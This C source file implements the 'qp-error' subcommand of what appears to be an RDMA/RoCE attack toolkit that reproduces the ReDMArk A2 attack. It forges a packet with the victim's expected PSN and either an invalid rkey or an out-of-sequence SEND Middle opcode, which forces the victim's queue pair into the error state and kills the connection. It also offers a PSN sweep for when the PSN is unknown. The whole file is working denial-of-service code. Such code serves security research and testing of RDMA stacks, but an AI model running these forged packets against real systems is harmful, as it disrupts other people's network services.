/* SPDX-License-Identifier: MIT */
/*
 * qp-error (ReDMArk A2): one forged packet with the expected PSN but a bad
 * rkey (RDMA WRITE to a key the victim does not have) or an impossible opcode
 * sequence (SEND Middle with no message open) makes rxe's responder NAK it
 * and move the victim's QP to the error state: the connection is dead.
 */
#include <getopt.h>
#include <string.h>

#include "common/attack.h"

enum { OPT_KIND = OPT_FIRST_PRIVATE, OPT_RKEY, OPT_VA };

static void help(FILE *f)
{
	fprintf(f, "Usage: %s qp-error --dst IP --src IP --qpn N (--psn N | --psn-sweep S:C) [options]\n"
		"Send one malformed packet that moves the victim QP to the error state.\n\n"
		FORGE_HELP
		"  --kind rkey|opcode    rkey: RDMA WRITE with an rkey the victim lacks (default)\n"
		"                        opcode: SEND Middle outside a message (sequence error)\n"
		"  --rkey N              rkey to use for --kind rkey (default 0)\n"
		"  --va N                address to use for --kind rkey (default 0)\n"
		"  -h, --help\n\n"
		"The PSN must be the one the victim expects; sweep when it is not known exactly.\n"
		"Exit status: 0 sent, 1 failed, 2 bad usage.\n", PROG);
}

int qp_error_main(int argc, char *argv[])
{
	static const struct option opts[] = {
		FORGE_LONG_OPTIONS,
		{ "kind", required_argument, NULL, OPT_KIND },
		{ "rkey", required_argument, NULL, OPT_RKEY },
		{ "va", required_argument, NULL, OPT_VA },
		{ "help", no_argument, NULL, 'h' },
		{ 0 },
	};
	static const uint8_t junk[8] = { 0xde, 0xad, 0xbe, 0xef, 0xde, 0xad, 0xbe, 0xef };
	struct forge_opts o = { .count = 1 };
	struct roce_pkt p = { .ack_req = true, .payload = junk, .payload_len = sizeof(junk) };
	bool bad = false, opcode_kind = false;
	uint64_t va = 0, sent = 0;
	uint32_t rkey = 0;
	char s1[16], s2[16];
	int opt, rc;

	while ((opt = getopt_long(argc, argv, "h", opts, NULL)) != -1) {
		if (forge_parse_opt(&o, opt, optarg, &bad))
			continue;
		switch (opt) {
		case OPT_KIND:
			if (!strcmp(optarg, "opcode")) {
				opcode_kind = true;
			} else if (strcmp(optarg, "rkey") != 0) {
				fprintf(stderr, "%s qp-error: --kind must be rkey or opcode, not `%s'\n", PROG, optarg);
				bad = true;
			}
			break;
		case OPT_RKEY: bad |= !parse_u32(optarg, UINT32_MAX, &rkey, "--rkey"); break;
		case OPT_VA: bad |= !parse_u64(optarg, UINT64_MAX, &va, "--va"); break;
		case 'h': help(stdout); return 0;
		default: help(stderr); return 2;
		}
	}
	if (optind != argc) {
		fprintf(stderr, "%s qp-error: unexpected argument `%s'\n", PROG, argv[optind]);
		return 2;
	}
	if (bad || !forge_check(&o, "qp-error"))
		return 2;

	p.opcode = opcode_kind ? ROCE_RC_SEND_MIDDLE : ROCE_RC_WRITE_ONLY;
	p.reth_va = va;
	p.reth_rkey = rkey;
	p.reth_len = sizeof(junk);
	rc = forge_run(&o, &p, &sent);
	if (o.json) {
		struct json j;
		json_begin(&j, "qp-error");
		json_str(&j, "kind", opcode_kind ? "opcode" : "rkey");
		json_str(&j, "dst", ipv4_str(o.dst_ip, s1));
		json_str(&j, "src", ipv4_str(o.src_ip, s2));
		json_hex(&j, "qpn", o.qpn);
		json_hex(&j, "psn_first", o.psn);
		json_u64(&j, "count", o.count);
		json_u64(&j, "sent", sent);
		json_boolean(&j, "ok", rc == 0);
		json_end(&j);
	} else {
		printf("qp-error: %s %llu malformed %s packet(s) %s -> %s qpn 0x%06x psn 0x%06x%s\n",
		       o.no_send ? "built" : "sent", (unsigned long long)sent,
		       opcode_kind ? "SEND Middle (out of sequence)" : "RDMA WRITE (bad rkey)", ipv4_str(o.src_ip, s1),
		       ipv4_str(o.dst_ip, s2), o.qpn, o.psn, o.count > 1 ? " (first)" : "");
	}
	return rc == 0 ? 0 : 1;
}
